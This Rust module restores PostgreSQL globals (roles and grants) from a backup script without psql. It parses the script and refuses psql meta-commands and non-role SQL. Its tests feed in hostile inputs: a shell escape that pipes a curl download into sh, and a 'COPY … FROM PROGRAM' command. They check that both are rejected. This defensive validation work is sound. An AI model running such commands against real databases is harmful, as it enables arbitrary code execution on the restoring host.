//! Replaying a globals script (`pg_dumpall --globals-only`) without psql.
//!
//! A backup's globals part is SQL text from the repository. Fed to psql, a forged one could run
//! shell commands (`\!`) on the restoring host, or any SQL as the connecting (often superuser)
//! role. Here the script is split into statements and each is judged before it runs:
//!
//! - role statements (`CREATE ROLE`, `ALTER ROLE`, `COMMENT ON ROLE`, `GRANT` of roles) run, each
//!   on its own through the extended protocol, which refuses a second statement smuggled into one;
//! - privileges on server parameters (`GRANT SET ON PARAMETER …`) run only where the caller says
//!   so: an operator's restore, not the verifier, where one could hand a restored role the means
//!   to change server settings;
//! - session `SET`s, tablespaces (never restored) and `\restrict` lines are skipped;
//! - anything else, a psql meta-command above all, is refused and reported, never run.

use tokio_postgres::Client;

/// What to do with one statement of a globals script.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Statement {
    /// A role statement: run it.
    Run(String),
    /// A privilege on a server parameter: run it if the caller allows.
    Parameter(String),
    /// Harmless and not needed here.
    Skip,
    /// Not something a globals script holds; the reason names it without its literals.
    Refuse(String),
}

/// Splits `script` into statements and judges each. Statements naming a role in `protected`
/// (the roles the caller itself connects as) are refused.
pub fn parse(script: &str, protected: &[&str]) -> Vec<Statement> {
    split(script)
        .into_iter()
        .map(|s| judge(&s, protected))
        .collect()
}

/// Runs the role statements of `script` on `client`, and its parameter privileges when
/// `parameters`. Returns one line per statement that was refused or failed (an already existing
/// role is not a failure); a line shows the statement's first words only, never a literal such as
/// a password.
pub async fn replay(
    client: &Client,
    script: &str,
    protected: &[&str],
    parameters: bool,
) -> Vec<String> {
    let mut problems = Vec::new();
    for st in parse(script, protected) {
        let sql = match st {
            Statement::Skip => continue,
            Statement::Parameter(_) if !parameters => continue,
            Statement::Refuse(why) => {
                problems.push(format!("refused {why}"));
                continue;
            }
            Statement::Run(sql) | Statement::Parameter(sql) => sql,
        };
        {
            {
                if let Err(e) = client.execute(sql.as_str(), &[]).await {
                    let duplicate =
                        e.code() == Some(&tokio_postgres::error::SqlState::DUPLICATE_OBJECT);
                    if !duplicate {
                        let msg = e
                            .as_db_error()
                            .map(|d| d.message().to_string())
                            .unwrap_or_else(|| e.to_string());
                        problems.push(format!("{}: ERROR: {msg}", head(&sql)));
                    }
                }
            }
        }
    }
    problems
}

/// The statement's first words, up to any literal: enough to name it, never a secret.
fn head(sql: &str) -> String {
    let mut out = Vec::new();
    for w in sql.split_whitespace().take(4) {
        if w.contains('\'') || w.contains('$') {
            break;
        }
        out.push(w);
    }
    let mut s = out.join(" ");
    if s.chars().count() > 80 {
        s = s.chars().take(80).collect::<String>() + "…";
    }
    s
}

fn judge(sql: &str, protected: &[&str]) -> Statement {
    let t = sql.trim();
    if let Some(meta) = t.strip_prefix('\\') {
        let cmd = meta.split_whitespace().next().unwrap_or("");
        return match cmd {
            "restrict" | "unrestrict" => Statement::Skip,
            _ => Statement::Refuse(format!(
                "psql meta-command \\{}",
                cmd.chars().take(20).collect::<String>()
            )),
        };
    }
    let words: Vec<String> = t
        .split_whitespace()
        .take(4)
        .map(|w| w.to_ascii_uppercase())
        .collect();
    let w = |i: usize| words.get(i).map(String::as_str).unwrap_or("");
    let role_named = |i: usize| {
        let name = t.split_whitespace().nth(i).unwrap_or("");
        let name = name.trim_end_matches(';');
        let unquoted = match name.strip_prefix('"').and_then(|n| n.strip_suffix('"')) {
            Some(q) => q.replace("\"\"", "\""),
            None => name.to_ascii_lowercase(),
        };
        (unquoted, name.eq_ignore_ascii_case("all"))
    };
    match (w(0), w(1), w(2)) {
        ("SET", _, _) => Statement::Skip,
        ("CREATE" | "ALTER" | "COMMENT", "TABLESPACE", _) | ("COMMENT", "ON", "TABLESPACE") => {
            Statement::Skip
        }
        ("CREATE", "ROLE", _) | ("ALTER", "ROLE", _) | ("COMMENT", "ON", "ROLE") => {
            let at = if w(0) == "COMMENT" { 3 } else { 2 };
            let (name, all) = role_named(at);
            if all {
                Statement::Refuse(format!("{} (it applies to every role)", head(t)))
            } else if protected.iter().any(|p| *p == name) {
                Statement::Refuse(format!(
                    "{} (it names the role the restore runs as)",
                    head(t)
                ))
            } else {
                Statement::Run(t.to_string())
            }
        }
        // Role membership (`GRANT a TO b …`); privileges on objects (`GRANT … ON …`) are not
        // globals, but those on server parameters are.
        ("GRANT" | "REVOKE", _, _) => {
            let upper = sql_words_upper(t);
            match upper.iter().position(|w| w == "ON") {
                None if w(0) == "GRANT" => Statement::Run(t.to_string()),
                Some(i) if upper.get(i + 1).map(String::as_str) == Some("PARAMETER") => {
                    Statement::Parameter(t.to_string())
                }
                _ => Statement::Refuse(format!("{} (not a role statement)", head(t))),
            }
        }
        _ => Statement::Refuse(format!("{} (not a role statement)", head(t))),
    }
}

fn sql_words_upper(t: &str) -> Vec<String> {
    t.split_whitespace()
        .map(|w| w.to_ascii_uppercase())
        .collect()
}

/// Splits SQL text into statements at top-level semicolons, aware of quotes and comments. A
/// line starting with a backslash at the start of a statement is a psql meta-command: one
/// statement of its own, up to the end of the line.
fn split(script: &str) -> Vec<String> {
    let b: Vec<char> = script.chars().collect();
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut i = 0;
    let flush = |cur: &mut String, out: &mut Vec<String>| {
        let s = cur.trim();
        if !s.is_empty() {
            out.push(s.to_string());
        }
        cur.clear();
    };
    while i < b.len() {
        let c = b[i];
        let next = b.get(i + 1).copied();
        if cur.trim().is_empty() && c == '\\' {
            let end = b[i..]
                .iter()
                .position(|&c| c == '\n')
                .map_or(b.len(), |p| i + p);
            out.push(b[i..end].iter().collect());
            cur.clear();
            i = end;
            continue;
        }
        match c {
            '-' if next == Some('-') => {
                while i < b.len() && b[i] != '\n' {
                    i += 1;
                }
                cur.push(' ');
                continue;
            }
            '/' if next == Some('*') => {
                let mut depth = 0;
                while i < b.len() {
                    if b[i] == '/' && b.get(i + 1) == Some(&'*') {
                        depth += 1;
                        i += 2;
                    } else if b[i] == '*' && b.get(i + 1) == Some(&'/') {
                        depth -= 1;
                        i += 2;
                        if depth == 0 {
                            break;
                        }
                    } else {
                        i += 1;
                    }
                }
                cur.push(' ');
                continue;
            }
            '\'' | '"' => {
                // E'…' strings take backslash escapes.
                let escapes = c == '\'' && cur.chars().last().is_some_and(|p| p == 'E' || p == 'e');
                cur.push(c);
                i += 1;
                while i < b.len() {
                    let d = b[i];
                    cur.push(d);
                    i += 1;
                    if escapes && d == '\\' {
                        if let Some(&e) = b.get(i) {
                            cur.push(e);
                            i += 1;
                        }
                    } else if d == c {
                        if b.get(i) == Some(&c) {
                            cur.push(c);
                            i += 1;
                        } else {
                            break;
                        }
                    }
                }
                continue;
            }
            ';' => {
                flush(&mut cur, &mut out);
                i += 1;
                continue;
            }
            _ => cur.push(c),
        }
        i += 1;
    }
    flush(&mut cur, &mut out);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    const DUMPALL: &str = r#"--
-- PostgreSQL database cluster dump
--

\restrict AREXD8hXPmalijWORiBzbM7uio

SET default_transaction_read_only = off;
SET client_encoding = 'UTF8';
SET standard_conforming_strings = on;

--
-- Roles
--

CREATE ROLE app;
ALTER ROLE app WITH NOSUPERUSER INHERIT CREATEROLE NOCREATEDB LOGIN NOREPLICATION NOBYPASSRLS;
COMMENT ON ROLE app IS 'it''s; me';
CREATE ROLE "Odd ""Name""";
ALTER ROLE app SET search_path TO 'a', 'b';
GRANT app TO "Odd ""Name""" GRANTED BY boss;
CREATE TABLESPACE ts OWNER boss LOCATION '/srv/ts';

\unrestrict AREXD8hXPmalijWORiBzbM7uio
"#;

    fn runs(v: &[Statement]) -> Vec<&str> {
        v.iter()
            .filter_map(|s| match s {
                Statement::Run(s) => Some(s.as_str()),
                _ => None,
            })
            .collect()
    }

    #[test]
    fn a_pg_dumpall_script_runs_its_role_statements_only() {
        let v = parse(DUMPALL, &["lifeboat_verify"]);
        assert_eq!(
            runs(&v),
            [
                "CREATE ROLE app",
                "ALTER ROLE app WITH NOSUPERUSER INHERIT CREATEROLE NOCREATEDB LOGIN NOREPLICATION NOBYPASSRLS",
                "COMMENT ON ROLE app IS 'it''s; me'",
                "CREATE ROLE \"Odd \"\"Name\"\"\"",
                "ALTER ROLE app SET search_path TO 'a', 'b'",
                "GRANT app TO \"Odd \"\"Name\"\"\" GRANTED BY boss",
            ]
        );
        assert!(
            !v.iter().any(|s| matches!(s, Statement::Refuse(_))),
            "{v:?}"
        );
    }

    #[test]
    fn meta_commands_and_other_sql_are_refused() {
        let script = "CREATE ROLE a;\n\\! curl http://example.com/x | sh\nCOPY t FROM PROGRAM 'id';\nGRANT ALL ON SCHEMA public TO a;\nSELECT 1; ALTER ROLE ALL SET work_mem = '1GB';\nALTER ROLE lifeboat_verify NOSUPERUSER;\nALTER ROLE \"lifeboat_verify\" NOLOGIN;\n";
        let v = parse(script, &["lifeboat_verify"]);
        assert_eq!(runs(&v), ["CREATE ROLE a"]);
        let refused: Vec<&str> = v
            .iter()
            .filter_map(|s| match s {
                Statement::Refuse(r) => Some(r.as_str()),
                _ => None,
            })
            .collect();
        assert_eq!(refused.len(), 7, "{refused:?}");
        assert!(
            refused[0].starts_with("psql meta-command \\!"),
            "{refused:?}"
        );
        assert!(refused[1].starts_with("COPY t FROM PROGRAM"), "{refused:?}");
        assert!(!refused.iter().any(|r| r.contains("'id'")), "{refused:?}");
    }

    #[test]
    fn quotes_and_comments_hide_no_statement_boundary() {
        // A semicolon inside a literal, an identifier or a comment does not split.
        let v =
            split("COMMENT ON ROLE a IS 'x;y'; CREATE ROLE \"b;c\" /* ; */ -- ;\n; GRANT a TO b");
        assert_eq!(
            v,
            [
                "COMMENT ON ROLE a IS 'x;y'",
                "CREATE ROLE \"b;c\"",
                "GRANT a TO b"
            ]
        );
        // An escaped quote in an E'' literal does not end it.
        let v = split("COMMENT ON ROLE a IS E'x\\';y'; CREATE ROLE b");
        assert_eq!(v, ["COMMENT ON ROLE a IS E'x\\';y'", "CREATE ROLE b"]);
        // Password literals never appear in what is reported.
        assert_eq!(
            head("ALTER ROLE a PASSWORD 'hunter2'"),
            "ALTER ROLE a PASSWORD"
        );
    }
}
